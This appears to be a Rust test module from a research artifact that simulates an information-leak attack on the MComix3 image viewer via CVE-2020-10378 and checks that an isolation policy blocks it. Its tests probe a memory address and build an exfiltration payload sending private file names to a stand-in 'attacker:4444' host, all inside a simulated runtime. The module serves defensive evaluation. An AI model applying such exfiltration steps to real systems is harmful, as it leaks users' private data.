//! The MComix3 image-viewer information-leak case study (paper §5.4.2,
//! Fig. 15).
//!
//! The viewer keeps a recently-opened-files list in two places: the
//! application's own `self._window.uimanager.recent` and GTK's
//! `RecentManager` (GUI framework state). The attacker exploits
//! `CVE-2020-10378` in the image loader and tries to read the recent
//! list and `send()` it off-box.

use freepart_baselines::ApiSurface;
use freepart_frameworks::image::Image;
use freepart_frameworks::{fileio, ExploitPayload, ObjectId, Value};

/// Viewer session configuration.
#[derive(Debug, Clone, Default)]
pub struct ViewerConfig {
    /// Image files to open (their names are the sensitive history).
    pub files: Vec<String>,
    /// Crafted image at this index, if attacking.
    pub evil_at: Option<(usize, ExploitPayload)>,
}

/// Session outcome.
#[derive(Debug)]
pub struct ViewerResult {
    /// The host-side recent-files list object.
    pub recent: ObjectId,
    /// Its final (expected) contents.
    pub recent_contents: Vec<u8>,
    /// Files successfully displayed.
    pub displayed: u32,
}

/// Runs the viewer session.
pub fn run(surface: &mut dyn ApiSurface, cfg: &ViewerConfig) -> ViewerResult {
    // The application-side recent list — sensitive host data.
    let recent_contents = cfg.files.join("\n").into_bytes();
    let recent = surface.host_data("self._window.uimanager.recent", &recent_contents);
    surface.finish_setup();

    let mut displayed = 0;
    for (i, file) in cfg.files.iter().enumerate() {
        let payload = match &cfg.evil_at {
            Some((at, p)) if *at == i => Some(p),
            _ => None,
        };
        let img = Image::new(24, 24, 3);
        surface
            .kernel_mut()
            .fs_put(file, fileio::encode_image(&img, payload));
        let Ok(loaded) = surface.call("PIL.Image.open", &[Value::Str(file.clone())]) else {
            continue;
        };
        // Display through the GUI stack; the window title is the file
        // name, which is how GTK's RecentManager learns it.
        if surface
            .call("cv2.imshow", &[Value::Str(file.clone()), loaded])
            .is_ok()
        {
            displayed += 1;
        }
        // GTK-side recent list read (visualizing process state).
        let _ = surface.call("Gtk.RecentManager.get_items", &[]);
    }
    ViewerResult {
        recent,
        recent_contents,
        displayed,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use freepart::{Policy, Runtime};
    use freepart_attacks::{judge, payloads, AttackGoal, Verdict};
    use freepart_baselines::MonolithicRuntime;
    use freepart_frameworks::registry::standard_registry;

    fn files() -> Vec<String> {
        vec![
            "/home/u/private-medical-scan.png".to_owned(),
            "/home/u/tax-return-2025.png".to_owned(),
            "/home/u/cat.png".to_owned(),
        ]
    }

    #[test]
    fn benign_session_displays_everything() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        let r = run(
            &mut rt,
            &ViewerConfig {
                files: files(),
                evil_at: None,
            },
        );
        assert_eq!(r.displayed, 3);
    }

    #[test]
    fn leak_succeeds_in_the_original_viewer() {
        let mut rt = MonolithicRuntime::original(standard_registry());
        // Probe for the recent-list address.
        let addr = {
            let mut p = MonolithicRuntime::original(standard_registry());
            let r = run(
                &mut p,
                &ViewerConfig {
                    files: files(),
                    evil_at: None,
                },
            );
            p.objects.meta(r.recent).unwrap().buffer.unwrap().0
        };
        let payload = payloads::exfiltrate("CVE-2020-10378", addr.0, 40, "attacker:4444");
        let r = run(
            &mut rt,
            &ViewerConfig {
                files: files(),
                evil_at: Some((1, payload)),
            },
        );
        let log = rt.exploit_log().to_vec();
        let (kernel, objects, host) = rt.attack_view();
        let v = judge(
            &AttackGoal::Exfiltrate {
                marker: b"private-medical-scan".to_vec(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(v, Verdict::Succeeded, "unprotected viewer leaks");
        let _ = r;
    }

    #[test]
    fn freepart_blocks_the_leak_twice_over() {
        let mut rt = Runtime::install(standard_registry(), Policy::freepart());
        let addr = {
            let mut p = Runtime::install(standard_registry(), Policy::freepart());
            let r = run(
                &mut p,
                &ViewerConfig {
                    files: files(),
                    evil_at: None,
                },
            );
            p.objects.meta(r.recent).unwrap().buffer.unwrap().0
        };
        let payload = payloads::exfiltrate("CVE-2020-10378", addr.0, 40, "attacker:4444");
        let r = run(
            &mut rt,
            &ViewerConfig {
                files: files(),
                evil_at: Some((1, payload)),
            },
        );
        // The read faults (recent list lives in the host, not the
        // loading agent) AND the loading agent's filter has no send —
        // either defense alone stops the leak (Fig. 15).
        let log = rt.exploit_log.clone();
        let (kernel, objects, host) = rt.attack_view();
        let v = judge(
            &AttackGoal::Exfiltrate {
                marker: b"private-medical-scan".to_vec(),
            },
            kernel,
            objects,
            host,
            &log,
        );
        assert_eq!(v, Verdict::Prevented);
        // Viewer keeps working for the remaining files.
        assert!(r.displayed >= 2);
        assert!(rt.kernel.is_running(rt.host_pid()));
    }
}
